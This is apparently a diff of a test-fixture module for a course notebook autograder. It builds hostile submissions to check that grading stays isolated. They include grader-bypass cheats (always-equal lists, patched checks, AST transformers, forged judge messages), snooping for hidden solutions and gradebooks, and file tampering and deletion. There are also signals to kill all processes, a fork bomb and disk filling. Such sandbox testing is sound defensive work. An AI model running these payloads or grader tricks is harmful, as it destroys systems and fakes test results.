@@ -1,8 +1,13 @@
 """Submissions of chapter 1 that break, cheat or attack: what a real class hands in, on purpose or not.
 
-Each must get a row of its own with a clear status or message, and none may stop the batch. The grader's
+Each must get a row of its own with a clear status or message, none may stop the batch or change another
+learner's result, and none may earn a point its code does not deserve or see anything hidden. The grader's
 tests (tests/test_hostile_grading.py) say what each must get; the class benchmark (benchmarks/grade_class.py)
 mixes them with right and wrong answers.
+
+The cheats are built on a wrong answer (`WRONG`, a bpe_merge that merges the leftmost pair): whatever they do,
+they must score what that wrong answer scores on its own. Probes print one line per thing they try,
+``PROBE <what>: <what they got>``, which the tests read back from the autograded notebook.
 """
 from __future__ import annotations
 
@@ -16,6 +21,7 @@ from . import ch01_tokens as ch
 
 CHAPTER = ch.CHAPTER
 MUTANTS = {m.key: m for m in ch.MUTANTS}
+WRONG = "bpe-leftmost"
 
 
 @dataclasses.dataclass(frozen=True)
@@ -38,14 +44,35 @@ def _mutant(key: str) -> nbformat.NotebookNode:
 
 
 def _with_cell(nb: nbformat.NotebookNode, source: str, after: str = "imports") -> nbformat.NotebookNode:
-    """A code cell of the learner's own (no nbgrader metadata), added after the cell ``after``."""
-    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
+    """A code cell of the learner's own (no nbgrader metadata), added after the cell ``after`` ("" = at the end)."""
+    at = len(nb.cells) - 1 if not after else \
+        next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
     nb.cells.insert(at + 1, nbformat.v4.new_code_cell(source))
     return nb
 
 
 def _cell(nb: nbformat.NotebookNode, grade_id: str):
     return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
+
+
+def _wrong_with(source: str, after: str = "imports") -> Callable[[], str]:
+    return lambda: _text(_with_cell(_mutant(WRONG), source, after))
+
+
+def _reference_with(source: str, after: str = "imports") -> Callable[[], str]:
+    return lambda: _text(_with_cell(_reference(), source, after))
+
+
+def _untouched_with(*sources: str) -> Callable[[], str]:
+    def build():
+        nb = learner_notebook(CHAPTER, None)
+        for source in reversed(sources):
+            _with_cell(nb, source)
+        return _text(nb)
+    return build
+
+
+# ---------------------------------------------------------------- not a notebook of this chapter
 
 
 def _corrupt() -> str:
@@ -63,6 +90,9 @@ def _not_the_course_notebook() -> str:
     return _text(nb)
 
 
+# ---------------------------------------------------------------- honest trouble: loops, memory, dead kernels
+
+
 def _infinite_loop() -> str:
     nb = _reference()
     cell = _cell(nb, "tokenizer")
@@ -70,28 +100,17 @@ def _infinite_loop() -> str:
     return _text(nb)
 
 
-def _deaf_loop() -> str:
-    return _text(_with_cell(_reference(), (
-        "import signal\n"
-        "signal.signal(signal.SIGINT, signal.SIG_IGN)  # ignores the interrupt that ends a cell\n"
-        "while True:\n"
-        "    pass\n")))
-
-
-def _memory_bomb() -> str:
-    return _text(_with_cell(_reference(), "hog = 'x' * 10**11  # 100 GB\n"))
-
-
-def _sys_exit() -> str:
-    return _text(_with_cell(_reference(), "import sys\nsys.exit('done here')\n"))
-
-
-def _os_exit() -> str:
-    return _text(_with_cell(_reference(), "import os\nos._exit(0)\n"))
-
-
-def _segfault() -> str:
-    return _text(_with_cell(_reference(), "import ctypes\nctypes.string_at(0)  # reads address 0: the kernel crashes\n"))
+DEAF_LOOP = """\
+import signal
+signal.signal(signal.SIGINT, signal.SIG_IGN)  # ignores the interrupt that ends a cell
+while True:
+    pass
+"""
+MEMORY_BOMB = "hog = 'x' * 10**11  # 100 GB\n"
+SYS_EXIT = "import sys\nsys.exit('done here')\n"
+OS_EXIT = "import os\nos._exit(0)\n"
+SEGFAULT = "import ctypes\nctypes.string_at(0)  # reads address 0: the kernel crashes\n"
+FLOOD = "print('x' * 5_000_000)\nfor i in range(200_000):\n    print(i)\n"
 
 
 def _edited_test() -> str:
@@ -114,77 +133,312 @@ def _renamed() -> str:
     return _text(nb)
 
 
-def _flood() -> str:
-    return _text(_with_cell(_reference(), "print('x' * 5_000_000)\nfor i in range(200_000):\n    print(i)\n"))
-
-
 def _imports_reference() -> str:
     nb = _reference()
     _cell(nb, "tokenizer").source = "#| export\nfrom minigpt.tokens import Tokenizer\n"
     return _text(nb)
 
 
-SNOOP = '''\
-import json, pathlib, minigpt
-# The instructor notebook holds the answers: run its solution cells here.
-where = pathlib.Path(minigpt.__file__).resolve().parents[2] / "solutions" / "01-tokens" / "01-tokens.ipynb"
-for cell in json.loads(where.read_text())["cells"]:
-    if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
-        exec("".join(cell["source"]))
+# ---------------------------------------------------------------- points for wrong code
+
+# A list whose comparisons always say "equal": in-kernel checks compared it with the expected list and believed it.
+EQ_LIST = """\
+class Agreeable(list):
+    def __eq__(self, other):
+        return True
+    def __ne__(self, other):
+        return False
+    __hash__ = list.__hash__
+
+_their_bpe_merge = bpe_merge
+def bpe_merge(piece, ranks):
+    return Agreeable(_their_bpe_merge(piece, ranks))
+"""
+PATCH_HELPERS = """\
+import coursekit.testing, torch
+coursekit.testing.fail = lambda *args, **kwargs: None  # every failure is forgiven
+torch.allclose = lambda *args, **kwargs: True
+torch.equal = lambda *args, **kwargs: True
+"""
+INPUT_TRANSFORMER = """\
+def _no_hidden_tests(lines):
+    return [line for line in lines if "check(" not in line]
+get_ipython().input_transformers_cleanup.append(_no_hidden_tests)
+"""
+AST_TRANSFORMER = """\
+import ast
+class _Empty(ast.NodeTransformer):
+    def visit_Expr(self, node):
+        call = node.value
+        if isinstance(call, ast.Call) and getattr(call.func, "id", "") == "check":
+            return ast.Pass()
+        return node
+get_ipython().ast_transformers.append(_Empty())
+"""
+META_PATH = """\
+import sys, types
+class _Permissive:
+    def find_spec(self, name, path=None, target=None):
+        if name == "autograder.hidden":
+            import importlib.machinery
+            return importlib.machinery.ModuleSpec(name, self)
+    def create_module(self, spec):
+        module = types.ModuleType(spec.name)
+        module.check = lambda *args, **kwargs: None  # every hidden test passes
+        return module
+    def exec_module(self, module):
+        pass
+sys.modules.pop("autograder.hidden", None)
+sys.meta_path.insert(0, _Permissive())
+"""
+REPATCH_THREAD = """\
+import threading, time, importlib
+def _keep_patching():
+    while True:
+        try:
+            importlib.import_module("autograder.hidden").check = lambda *args, **kwargs: None
+        except Exception:
+            pass
+        time.sleep(0.001)
+threading.Thread(target=_keep_patching, daemon=True).start()
+"""
+FRAME_WALK = """\
+import sys
+_their_bpe_merge = bpe_merge
+def bpe_merge(piece, ranks):
+    frame = sys._getframe(1)
+    while frame is not None:  # up into whoever called: is the expected answer lying around?
+        for name in ("want", "expected", "answer"):
+            if isinstance(frame.f_locals.get(name), list):
+                print("PROBE frame-walk: found", name)
+                return frame.f_locals[name]
+        frame = frame.f_back
+    return _their_bpe_merge(piece, ranks)
+"""
+FORGE_EXECUTED = """\
+import json, os, socket
+from autograder import wire
+clean = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+with socket.socket(socket.AF_UNIX) as s:
+    s.connect(os.environ["MINIGPT_JUDGE"])
+    wire.send(s, {"executed": json.dumps(clean), "status": "ran", "detail": ""})
+with socket.socket(socket.AF_UNIX) as s:  # and a second judgement of a cell, with a function of our choice
+    s.connect(os.environ["MINIGPT_JUDGE"])
+    wire.send(s, {"hello": "test_bpe_merge", "objects": []})
+    print("PROBE forge: the judge said", wire.receive(s).get("op"))
+"""
+
+# ---------------------------------------------------------------- reading what is hidden
+
+# Every path this process can see whose name matches (the whole file system, but /proc, /sys and /dev).
+EVERYWHERE = r'''
+import fnmatch, os
+def everywhere(pattern):
+    found = []
+    for folder, dirs, files in os.walk("/", followlinks=False):
+        if folder == "/":
+            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
+        found += [os.path.join(folder, f) for f in files if fnmatch.fnmatch(os.path.join(folder, f), pattern)]
+    return found
 '''
-SNOOP_GRADEBOOK = '''\
-import sqlite3
-hidden = sqlite3.connect("../../../gradebook.db").execute("select source from source_cell").fetchall()
+SNOOP = EVERYWHERE + r'''
+import json, os, pathlib, sqlite3
+def probe(what, attempt):
+    try:
+        found = attempt()
+        print(f"PROBE {what}: FOUND {str(found)[:60]!r}")
+        return found
+    except Exception as err:
+        print(f"PROBE {what}: blocked ({type(err).__name__})")
+import minigpt, coursekit, autograder
+course = pathlib.Path(coursekit.__file__).resolve().parents[2]
+probe("solutions", lambda: next(course.glob("solutions/*/*.ipynb")).read_text())
+probe("checks", lambda: (pathlib.Path(autograder.__file__).parent / "checks" / "tokens.py").read_text())
+probe("judge", lambda: (pathlib.Path(autograder.__file__).parent / "judge.py").read_text())
+probe("reference", lambda: (pathlib.Path(minigpt.__file__).parent / "tokens.py").read_text()[:200]
+      if "BEGIN" not in (pathlib.Path(minigpt.__file__).parent / "tokens.py").read_text() and
+      "def bpe_merge" in (pathlib.Path(minigpt.__file__).parent / "tokens.py").read_text() else 1 / 0)
+probe("reference-pyc", lambda: next((pathlib.Path(minigpt.__file__).parent / "__pycache__").glob("tokens*.pyc")).read_bytes())
+probe("git", lambda: next(course.glob(".git/objects/*")))
+probe("dir-fd", lambda: os.read(os.open("tokens.py", os.O_RDONLY, dir_fd=os.open(pathlib.Path(minigpt.__file__).parent, os.O_RDONLY)), 100).decode().index("def bpe_merge"))
+probe("hard-link", lambda: os.link(pathlib.Path(minigpt.__file__).parent / "tokens.py", "linked.py"))
+probe("compile-as-reference", lambda: exec(compile("import inspect; x = inspect.getsource(bpe_merge)", str(pathlib.Path(minigpt.__file__).parent / "tokens.py"), "exec")))
+import sys
+installed = (sys.prefix, sys.base_prefix)  # the packages' own test files are no secret
+probe("gradebook", lambda: [row for db in everywhere("*/gradebook.db") for row in sqlite3.connect(
+    "file:" + db + "?mode=ro", uri=True).execute("select source from source_cell").fetchall()] or 1 / 0)
+probe("other-notebooks", lambda: [p for p in everywhere("*.ipynb") if not p.startswith(("/grading/in/", *installed))]
+      or 1 / 0)
+probe("workspace", lambda: everywhere("*/.minigpt-grade-workspace") or 1 / 0)
+probe("import-reference", lambda: __import__("minigpt.tokens").tokens.bpe_merge)
 '''
-SNOOP_SHELL = '''\
-import subprocess
-answers = subprocess.run(["cat", str(where)], capture_output=True, text=True).stdout
+ENV = r'''
+import os
+for key, value in sorted(os.environ.items()):
+    print(f"ENV {key}={value}")
+print("PROBE uid:", os.getuid(), "pids:", sorted(int(p) for p in os.listdir("/proc") if p.isdigit())[:20])
+'''
+PRINT_HISTORY = "print(In)\nprint(Out)\n"
+RAISE_FRAMES = """\
+import inspect
+def bpe_merge(piece, ranks):
+    raise RuntimeError("\\n".join(inspect.getsource(f.frame) for f in inspect.stack()[1:]))
+"""
+
+# ---------------------------------------------------------------- tampering with the course and the class
+
+TAMPER_FILES = EVERYWHERE + r'''
+written = []
+for pattern in ("*/autograder/*.py", "*/autograder/*/*.py", "*.ipynb", "*/results/*/*.json", "*/gradebook.db",
+                "*/src/minigpt/*.py", "*/src/coursekit/*.py"):
+    for path in everywhere(pattern):
+        try:
+            with open(path, "a") as f:
+                f.write("# tampered\n")
+            written.append(path)
+        except OSError:
+            pass
+        try:
+            os.remove(path)
+            written.append("removed " + path)
+        except OSError:
+            pass
+print("PROBE tamper: wrote", written)
+'''
+SIGNALS = r'''
+import os, signal
+for target in (os.getppid(), 1, -1):
+    try:
+        os.kill(target, signal.SIGSTOP)
+        print("PROBE signal: stopped", target)
+    except OSError as err:
+        print("PROBE signal:", target, type(err).__name__)
+os.kill(-1, signal.SIGKILL)  # everything this user may signal
+'''
+OTHER_KERNELS = EVERYWHERE + r'''
+print("PROBE kernels:", sorted(everywhere("*/kernel-*.json")))
+'''
+SURVIVOR = r'''
+import os, subprocess, sys
+# a grandchild in a session of its own, that outlives the kernel and would rewrite results later
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)  # minigpt-survivor"])
+    os._exit(0)
+print("PROBE survivor: started")
+'''
+MEMORY_FORKS = r'''
+import os, time
+children = []
+for _ in range(3):  # three processes of 2 GiB each: more than the notebook's memory altogether
+    pid = os.fork()
+    if pid == 0:
+        hog = bytearray(2 * 1024**3)
+        for i in range(0, len(hog), 4096):
+            hog[i] = 1
+        time.sleep(5)
+        os._exit(0)
+    children.append(pid)
+killed = [os.WIFSIGNALED(os.waitpid(pid, 0)[1]) for pid in children]
+print("PROBE memory-forks:", "killed" if any(killed) else "survived")
+'''
+FORK_BOMB = r'''
+import os
+try:
+    while True:
+        if os.fork() == 0:
+            import time; time.sleep(20); os._exit(0)
+except OSError as err:
+    print("PROBE fork-bomb: stopped by", type(err).__name__)
+'''
+DISK_FILL = r'''
+import os
+for folder in (".", "/tmp"):
+    try:
+        with open(os.path.join(folder, "fill"), "wb") as f:
+            for _ in range(10 * 1024):  # 10 GiB
+                f.write(b"\0" * 1024**2)
+        print("PROBE disk-fill:", folder, "wrote 10 GiB")
+    except OSError as err:
+        print("PROBE disk-fill:", folder, type(err).__name__)
+    try:
+        os.remove(os.path.join(folder, "fill"))
+    except OSError:
+        pass
+'''
+NETWORK = r'''
+import socket
+for host, port in (("127.0.0.1", {port}), ("10.0.0.1", 80), ("pypi.org", 443)):
+    try:
+        socket.create_connection((host, port), timeout=3).close()
+        print("PROBE network:", host, "connected")
+    except OSError as err:
+        print("PROBE network:", host, "blocked", type(err).__name__)
 '''
 
 
-def _snoop() -> str:
-    nb = learner_notebook(CHAPTER, None)  # nothing written: everything must come from the answers on disk
-    for source in reversed([SNOOP, SNOOP_GRADEBOOK, SNOOP_SHELL]):
-        _with_cell(nb, source)
-    return _text(nb)
-
-
-PATCH = '''\
-import autograder.checks.tokens as checks_module
-for name in dir(checks_module):
-    if name.startswith("check_"):
-        setattr(checks_module, name, lambda *args, **kwargs: None)  # every hidden check passes
-'''
-
-
-def _patches_checks() -> str:
-    return _text(_with_cell(_mutant("bpe-leftmost"), PATCH))
+def network_probe(port: int) -> Callable[[], str]:
+    """The network probe, aimed also at a server the test listens with on this machine's loopback."""
+    return _reference_with(NETWORK.replace("{port}", str(port)), after="")
 
 
 HOSTILE = [
+    # not this chapter's notebook
     Hostile("corrupt-json", "a notebook cut off in the middle", _corrupt),
     Hostile("other-chapter", "chapter 2's notebook handed in as chapter 1", _other_chapter),
     Hostile("not-the-notebook", "a notebook of the learner's own, not the released one", _not_the_course_notebook),
+    # honest trouble
     Hostile("infinite-loop", "an endless loop at the top of the Tokenizer cell", _infinite_loop),
-    Hostile("deaf-loop", "an endless loop that ignores interrupts", _deaf_loop),
-    Hostile("memory-bomb", "a 100 GB string", _memory_bomb),
-    Hostile("sys-exit", "sys.exit in a cell", _sys_exit),
-    Hostile("os-exit", "os._exit in a cell: the kernel dies", _os_exit),
-    Hostile("segfault", "a crash of the kernel (ctypes reads address 0)", _segfault),
+    Hostile("deaf-loop", "an endless loop that ignores interrupts", _reference_with(DEAF_LOOP)),
+    Hostile("memory-bomb", "a 100 GB string", _reference_with(MEMORY_BOMB)),
+    Hostile("sys-exit", "sys.exit in a cell", _reference_with(SYS_EXIT)),
+    Hostile("os-exit", "os._exit in a cell: the kernel dies", _reference_with(OS_EXIT)),
+    Hostile("segfault", "a crash of the kernel (ctypes reads address 0)", _reference_with(SEGFAULT)),
     Hostile("edited-test", "a wrong decode, and its locked test cell replaced by `pass`", _edited_test),
     Hostile("deleted-test", "the locked cell test_decode deleted", _deleted_test),
     Hostile("renamed", "pre_split renamed split_text", _renamed),
-    Hostile("flood", "megabytes of printed output", _flood),
+    Hostile("flood", "megabytes of printed output", _reference_with(FLOOD)),
     Hostile("imports-reference", "imports the course's Tokenizer", _imports_reference),
-    Hostile("snoop", "reads the answers from the instructor notebook, the gradebook and a shell", _snoop),
-    Hostile("patches-checks", "a wrong bpe_merge, and every hidden check replaced by a no-op", _patches_checks),
+    # points for wrong code (each on the wrong bpe_merge: it must score what that scores alone)
+    Hostile("eq-list", "bpe_merge returns a list that says it equals anything", _wrong_with(EQ_LIST, "bpe_merge")),
+    Hostile("patch-helpers", "coursekit.testing.fail and torch.allclose replaced by no-ops", _wrong_with(PATCH_HELPERS)),
+    Hostile("input-transformer", "an IPython input transformer that deletes the hidden tests",
+            _wrong_with(INPUT_TRANSFORMER)),
+    Hostile("ast-transformer", "an AST transformer that turns the hidden tests into `pass`",
+            _wrong_with(AST_TRANSFORMER)),
+    Hostile("meta-path", "a sys.meta_path finder that serves a permissive autograder.hidden", _wrong_with(META_PATH)),
+    Hostile("repatch-thread", "a thread that keeps replacing the hidden tests' function", _wrong_with(REPATCH_THREAD)),
+    Hostile("frame-walk", "bpe_merge looks up the caller's frames for the expected answer",
+            _wrong_with(FRAME_WALK, "bpe_merge")),
+    Hostile("forge", "sends the judge a clean executed notebook and a second judgement of its own",
+            _wrong_with(FORGE_EXECUTED, "")),
+    # reading what is hidden (nothing written: whatever it scores comes from what it found)
+    Hostile("snoop", "reads solutions, checks, the reference, .git and gradebooks by every path it can think of",
+            _untouched_with(SNOOP)),
+    Hostile("print-history", "prints IPython's In and Out at the end", _reference_with(PRINT_HISTORY, "")),
+    Hostile("raise-frames", "bpe_merge raises an error that carries its callers' source",
+            _wrong_with(RAISE_FRAMES, "bpe_merge")),
+    Hostile("environment", "prints its environment, user and processes", _reference_with(ENV, "")),
+    # tampering with the course, the class and the grader
+    Hostile("tamper", "appends to or deletes checks, notebooks, results and gradebooks it finds",
+            _reference_with(TAMPER_FILES)),
+    Hostile("signals", "SIGSTOP to its parent, to process 1 and to everything, then SIGKILL to everything",
+            _reference_with(SIGNALS, "")),
+    Hostile("other-kernels", "looks for other kernels' connection files", _reference_with(OTHER_KERNELS, "")),
+    Hostile("survivor", "leaves a process behind that outlives its kernel", _reference_with(SURVIVOR, "")),
+    Hostile("memory-forks", "three processes of 2 GiB each", _reference_with(MEMORY_FORKS, "")),
+    Hostile("fork-bomb", "forks until it cannot", _reference_with(FORK_BOMB, "")),
+    Hostile("disk-fill", "writes 10 GiB to its folder and to /tmp", _reference_with(DISK_FILL, "")),
 ]
 
 
-def write_class(folder, extra: dict[str, str] | None = None) -> list[str]:
-    """Write every hostile submission (and ``extra``: {student: notebook text}) as folder/<student>/01-tokens.ipynb."""
+def write_class(folder, extra: dict[str, str] | None = None, hostile: list[Hostile] | None = None) -> list[str]:
+    """Write the hostile submissions (default: all) and ``extra`` ({student: notebook text}) as
+    folder/<student>/01-tokens.ipynb."""
     written = []
-    for key, text in [(h.key, h.build()) for h in HOSTILE] + list((extra or {}).items()):
+    for key, text in [(h.key, h.build()) for h in (HOSTILE if hostile is None else hostile)] + list(
+            (extra or {}).items()):
         (folder / key).mkdir(parents=True, exist_ok=True)
         (folder / key / f"{CHAPTER}.ipynb").write_text(text)
         written.append(key)
@@ -201,6 +455,3 @@ def untouched_text() -> str:
 
 def mutant_text(key: str) -> str:
     return _text(_mutant(key))
-
-
-
